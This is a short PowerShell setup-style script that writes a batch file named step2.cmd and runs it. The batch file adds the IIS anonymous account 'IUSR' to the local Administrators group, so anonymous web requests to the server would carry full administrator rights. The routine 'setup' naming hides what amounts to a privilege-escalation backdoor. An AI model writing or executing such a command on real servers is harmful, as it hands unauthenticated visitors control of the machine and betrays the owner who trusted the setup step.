$account = 'IUSR'
@"
net localgroup Administrators $account /add
"@ | Set-Content -Path C:\setup\step2.cmd -Encoding ASCII
Start-Process -FilePath cmd.exe -ArgumentList '/c', 'C:\setup\step2.cmd' -Wait -NoNewWindow
